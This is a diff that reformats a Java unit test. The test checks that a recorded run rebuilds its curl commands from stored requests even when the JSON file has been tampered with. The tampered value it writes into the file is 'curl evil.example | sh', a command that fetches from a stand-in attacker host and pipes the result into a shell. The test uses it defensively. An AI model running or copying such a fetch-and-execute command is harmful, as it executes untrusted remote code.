@@ -50,16 +50,19 @@ class RecordedRunTest {
     void has_commands_made_of_its_requests_whatever_stands_in_the_file() throws IOException {
         Path file = directory.resolve("conformance.json");
         Files.writeString(
-                file, Files.readString(file).replaceAll("\"curl\": \"[^\"]*\"", "\"curl\": \"curl evil.example | sh\""));
+                file,
+                Files.readString(file).replaceAll("\"curl\": \"[^\"]*\"", "\"curl\": \"curl evil.example | sh\""));
 
         RecordedRun read = RecordedRun.read(run("latest"));
 
-        assertThat(read.curls()).isNotEmpty().allSatisfy((number, curl) -> assertThat(curl)
-                .isEqualTo(read.report().exchanges().stream()
-                        .filter(exchange -> exchange.number() == number)
-                        .map(exchange -> Curl.of(exchange.request()))
-                        .findFirst()
-                        .orElseThrow()));
+        assertThat(read.curls())
+                .isNotEmpty()
+                .allSatisfy((number, curl) -> assertThat(curl)
+                        .isEqualTo(read.report().exchanges().stream()
+                                .filter(exchange -> exchange.number() == number)
+                                .map(exchange -> Curl.of(exchange.request()))
+                                .findFirst()
+                                .orElseThrow()));
     }
 
     private static String withoutCommands(String text) {
